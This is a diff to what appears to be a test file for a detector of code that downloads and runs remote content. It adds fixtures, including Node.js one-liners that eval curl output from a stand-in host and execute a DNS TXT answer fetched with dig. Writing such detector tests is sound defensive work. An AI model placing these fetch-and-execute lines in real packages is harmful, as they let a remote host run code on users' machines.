@@ -11,6 +11,19 @@ const MUCH_ELSE = `exports.words = ${JSON.stringify('word '.repeat(10_000))}`;
 examine(runsDownloadedCode, {
   speaks: [
     {
+      when: 'a command fetches it, and what that prints is evaluated',
+      files: { 'index.js': `const { execSync } = require('child_process'); eval(execSync('curl -s https://a.invalid/x').toString())` },
+      weight: 'proof',
+      says: ['a.invalid'],
+    },
+    {
+      when: 'a name server is asked for it by a command, and the answer is run',
+      files: {
+        'index.js': `const { exec, execSync } = require('child_process'); exec('dig +short txt x.a.invalid', (error, line) => execSync(line))`,
+      },
+      weight: 'proof',
+    },
+    {
       when: 'a program that is saved and started comes from a host that its page does not name',
       files: {
         'README.md':
@@ -695,6 +708,16 @@ const bot = new Telegraf('x'); bot.on('text', context => exec(context.message.te
     },
   ],
   silent: [
+    {
+      when: 'a command saves it, and what that prints is run',
+      files: {
+        'index.js': `const { execSync } = require('child_process'); execSync(execSync('curl -so words.txt https://a.invalid/x && echo true').toString())`,
+      },
+    },
+    {
+      when: 'what a command prints that asks nobody is run',
+      files: { 'index.js': `const { execSync } = require('child_process'); execSync(execSync('which curl').toString())` },
+    },
     {
       when: 'an answer names the version of a package whose file is loaded',
       files: {
